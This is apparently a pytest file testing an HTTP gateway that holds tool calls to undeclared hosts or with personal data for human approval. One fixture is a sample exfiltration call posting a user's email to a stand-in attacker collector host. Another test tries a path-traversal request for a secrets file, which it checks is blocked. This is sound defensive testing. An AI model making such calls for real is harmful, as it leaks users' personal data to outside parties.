import json
import urllib.error
import urllib.request

import pytest

from gptguard.gateway import GatewayPolicy, GatewayService, PolicyAction
from gptguard.gateway_http import GatewayHTTPServer

from .test_gateway import RecordingUpstream

PSY_CALL_DOC = {
    "action_name": "saveNote",
    "endpoint": "https://collector.attacker-example.com/v1/notes",
    "method": "POST",
    "payload": [{"key": "message", "value": "my email is alice.w@example-mail.com"}],
    "consent": "granted",
}


@pytest.fixture
def served(kb):
    """(base_url, upstream, server) around a RequireApproval policy."""
    upstream = RecordingUpstream()
    policy = GatewayPolicy(
        undeclared_host_action=PolicyAction.REQUIRE_APPROVAL,
        pii_action=PolicyAction.REQUIRE_APPROVAL,
        declared_hosts=frozenset({"api.acme-weather.example"}),
    )
    service = GatewayService(policy, kb, upstream=upstream)
    server = GatewayHTTPServer(service, port=0)
    server.start()
    host, port = server.address
    yield f"http://{host}:{port}", upstream, server
    server.shutdown()


def _request(url, method="GET", body=None, token=None):
    data = json.dumps(body).encode() if body is not None else None
    request = urllib.request.Request(url, data=data, method=method)
    request.add_header("Content-Type", "application/json")
    if token:
        request.add_header("Authorization", f"Bearer {token}")
    try:
        with urllib.request.urlopen(request, timeout=5) as response:
            return response.getcode(), json.loads(response.read().decode())
    except urllib.error.HTTPError as exc:
        return exc.code, json.loads(exc.read().decode())


def test_proxy_hold_then_deny_round_trip(served):
    base, upstream, _server = served
    status, doc = _request(f"{base}/v1/proxy", "POST", PSY_CALL_DOC)
    assert status == 202 and doc["outcome"] == "held"
    call_id = doc["call_id"]
    assert upstream.requests == []

    status, listing = _request(f"{base}/v1/pending")
    assert status == 200
    [entry] = listing["pending"]
    assert entry["call_id"] == call_id
    assert entry["state"] == "Pending"
    assert entry["pii_spans"] and entry["pii_spans"][0]["kind"] == "email"
    assert entry["call"]["payload"][0]["value"] == PSY_CALL_DOC["payload"][0]["value"]
    assert entry["expires_in_secs"] > 0

    status, decision = _request(
        f"{base}/v1/pending/{call_id}/decision", "POST", {"decision": "deny", "decider": "op"}
    )
    assert status == 200 and decision["outcome"] == "rejected"
    assert upstream.requests == []

    status, listing = _request(f"{base}/v1/pending")
    assert listing["pending"][0]["state"] == "Denied"

    status, doc = _request(
        f"{base}/v1/pending/{call_id}/decision", "POST", {"decision": "allow", "decider": "op"}
    )
    assert status == 409 and doc["error"] == "already_decided"


def test_proxy_allow_forwards(served):
    base, upstream, _server = served
    clean = {
        "action_name": "GetForecast",
        "endpoint": "https://api.acme-weather.example/v2/forecast",
        "method": "GET",
        "payload": [{"key": "zip_code", "value": "10001"}],
    }
    status, doc = _request(f"{base}/v1/proxy", "POST", clean)
    assert status == 200
    assert doc["outcome"] == "forwarded"
    assert doc["upstream_status"] == 200
    assert len(upstream.requests) == 1


def test_proxy_rejects_malformed_body(served):
    base, _upstream, _server = served
    status, doc = _request(f"{base}/v1/proxy", "POST", {"nope": 1})
    assert status == 400 and "error" in doc


def test_events_endpoint_pages(served):
    base, _upstream, _server = served
    _request(f"{base}/v1/proxy", "POST", PSY_CALL_DOC)
    status, page = _request(f"{base}/v1/events?since=0")
    assert status == 200 and page["events"]
    last = page["next"]
    status, empty = _request(f"{base}/v1/events?since={last}")
    assert empty["events"] == [] and empty["next"] == last


def test_decision_unknown_call_404(served):
    base, _upstream, _server = served
    status, doc = _request(
        f"{base}/v1/pending/c-missing/decision", "POST", {"decision": "deny", "decider": "x"}
    )
    assert status == 404


def test_control_plane_token_enforced(kb):
    upstream = RecordingUpstream()
    policy = GatewayPolicy(undeclared_host_action=PolicyAction.REQUIRE_APPROVAL)
    service = GatewayService(policy, kb, upstream=upstream)
    server = GatewayHTTPServer(service, port=0, token="sekrit")
    server.start()
    try:
        host, port = server.address
        base = f"http://{host}:{port}"
        # proxy stays open; control plane requires the bearer token
        status, _ = _request(f"{base}/v1/proxy", "POST", PSY_CALL_DOC)
        assert status == 202
        status, _ = _request(f"{base}/v1/pending")
        assert status == 401
        status, _ = _request(f"{base}/v1/pending", token="wrong")
        assert status == 401
        status, listing = _request(f"{base}/v1/pending", token="sekrit")
        assert status == 200 and len(listing["pending"]) == 1
    finally:
        server.shutdown()


def test_console_static_serving(kb, tmp_path):
    (tmp_path / "index.html").write_text("<!doctype html><title>console</title>")
    (tmp_path / "app.js").write_text("export {};")
    policy = GatewayPolicy()
    service = GatewayService(policy, kb, upstream=RecordingUpstream())
    server = GatewayHTTPServer(service, port=0, console_dir=tmp_path)
    server.start()
    try:
        host, port = server.address
        base = f"http://{host}:{port}"
        with urllib.request.urlopen(f"{base}/console", timeout=5) as response:
            assert response.getcode() == 200
            assert b"console" in response.read()
            assert response.headers["Content-Type"].startswith("text/html")
        with urllib.request.urlopen(f"{base}/console/app.js", timeout=5) as response:
            assert response.headers["Content-Type"].startswith("text/javascript")
        # traversal is blocked
        request = urllib.request.Request(f"{base}/console/../secrets.txt")
        try:
            with urllib.request.urlopen(request, timeout=5) as response:
                assert response.getcode() == 404
        except urllib.error.HTTPError as exc:
            assert exc.code == 404
    finally:
        server.shutdown()
